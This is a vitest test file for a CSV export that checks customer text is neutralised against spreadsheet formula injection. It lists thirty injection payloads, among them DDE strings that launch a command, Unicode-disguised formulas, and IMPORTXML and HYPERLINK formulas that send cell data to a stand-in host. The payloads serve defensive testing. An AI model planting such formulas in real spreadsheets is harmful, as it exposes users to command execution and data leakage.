import {describe, expect, test} from 'vitest';
import {csvRecord, harmless, write} from '../../src/exports/csv';
import {count, money, text} from '../../src/model/columns';

/** Thirty ways to have a spreadsheet compute what a customer typed. */
const payloads = [
  '=1+1',
  '=HYPERLINK("http://x.example","click")',
  `=cmd|'/C calc'!A0`,
  '+1+1',
  `+cmd|'/C calc'!A0`,
  '-1+1',
  `-2+3+cmd|'/C calc'!A0`,
  '@SUM(A1:A9)',
  '@SUM(1+1)*cmd|calc!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '"=1+1',
  'Tea;  @SUM(A1)',
  '""=1+1""',
  '\ufeff=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  'Tea;=1+1',
  'Tea;"=1+1"',
  'Tea\t=1+1',
  'Tea\r\n=1+1',
  'Tea"\r\n"=1+1',
  '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
  '-EUR5',
] as const;

const numbers = [
  '-3',
  '+3',
  '-12.50',
  '-12,50',
  '-1.234,56 €',
  '-€5.00',
  '-$5',
  '-1 234,5',
  "-1'234.50",
  '-4,5 %',
  '-1.5e-3',
  '+49 171 5550123',
  '-',
] as const;

/** What a program that splits at `separator` finds in a file, cell by cell. */
function cells(file: string, separator: string): string[] {
  const found: string[] = [];
  let [cell, quoted, begun] = ['', false, false];
  for (let at = 0; at < file.length; at++) {
    const sign = file[at]!;
    if (quoted && sign === '"' && file[at + 1] === '"') [cell, at] = [cell + '"', at + 1];
    else if (quoted && sign === '"') quoted = false;
    else if (!quoted && !begun && sign === '"') [quoted, begun] = [true, true];
    else if (!quoted && (sign === separator || sign === '\n' || sign === '\r')) {
      found.push(cell);
      [cell, begun] = ['', false];
    } else [cell, begun] = [cell + sign, true];
  }
  return [...found, cell];
}

/** A cell that a spreadsheet may compute: it drops blanks, and an apostrophe at the front makes a text. */
function isLive(cell: string): boolean {
  const shown = cell.replace(/^[\s"\ufeff\u200b]+/, '');
  return /^[=+\-@＝＋－＠]/.test(shown) && !/^[+-][€$]?[\d.,'’\s]*(e-?\d+)?\s?[%€]?$/.test(shown);
}

describe('a text from a shop is never computed by a spreadsheet', () => {
  test('the payloads are thirty, and each is live as it stands', () => {
    expect(new Set(payloads).size).toBe(30);
    const live = payloads.filter((payload) =>
      [',', ';', '\t'].some((separator) => cells(payload, separator).some(isLive)),
    );
    expect(live).toEqual([...payloads]);
  });

  test.each([',', ';', '\t'])('whether it splits at %j', (separator) => {
    const file = payloads.map((payload) => csvRecord(['1', harmless(payload), 'end'])).join('');
    expect(cells(file, separator).filter(isLive)).toEqual([]);
  });

  test('and still reads as it did, but for the apostrophe', () => {
    for (const payload of payloads)
      expect(harmless(payload).replaceAll("'", '')).toBe(payload.replaceAll("'", ''));
  });
});

test('numbers, prices, telephone numbers and lone dashes stay as they are', () => {
  expect(numbers.map(harmless)).toEqual([...numbers]);
});

test('plain words stay as they are, with what stands inside them', () => {
  const words = ['Müller-Lüdenscheid', 'a+b@x.de', 'Tea; 50 g - loose', '2024-01-05', 'O’Neill', ''];
  expect(words.map(harmless)).toEqual(words);
});

test('amounts keep their sign and their cents, and a missing one is an empty cell', async () => {
  const columns = {name: text('Name', 'Name'), revenue: money('Revenue', 'Umsatz'), n: count('n', 'n')};
  const piece = {
    rows: 3,
    columns: {
      name: ['Tee', null, 'a"b'],
      revenue: Float64Array.from([-12.5, 0.1 + 0.2, NaN]),
      n: Float64Array.from([-1, 2, 3]),
    },
  };
  const leaving = {title: '', columns, pieces: [piece, piece], language: 'en', words: {}} as const;
  const lines = 'Tee,-12.5,-1\r\n,0.3,2\r\n"a""b",,3\r\n';
  expect((await write(leaving)).join('')).toBe(`name,revenue,n\r\n${lines}${lines}`);
});
